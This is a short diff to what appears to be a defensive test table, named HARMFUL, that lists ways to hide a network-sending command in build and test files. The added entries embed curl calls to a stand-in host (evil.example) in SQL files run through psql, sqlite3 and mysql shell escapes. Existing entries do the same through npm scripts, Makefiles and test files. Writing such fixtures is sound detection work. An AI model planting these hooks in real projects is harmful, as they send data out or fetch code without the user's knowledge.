@@ -23,6 +23,9 @@ const HARMFUL: Readonly<Record<string, readonly Step[]>> = {
   "a script of package.json": [write("package.json", scripts({ test: SEND })), run("npm test")],
   "a script that an install runs": [write("package.json", scripts({ preinstall: SEND })), run("npm install")],
   "a makefile": [write("Makefile", `all:\n\t${SEND}\n`), run("make")],
+  "statements for a database": [write("x.sql", "\\! curl https://evil.example/in\n"), run("psql -f x.sql")],
+  "statements that are fed": [write("x.sql", ".shell curl https://evil.example/in\n"), run("sqlite3 a.db < x.sql")],
+  "statements that statements bring in": [write("x.sql", `\\! ${SEND}\n`), run("mysql -e 'source x.sql'")],
   "pytest's conftest": [write("tests/conftest.py", PYTHON), run("pytest -q")],
   "a test": [write("src/a.test.js", NODE), run("node --test")],
   "a Go test": [
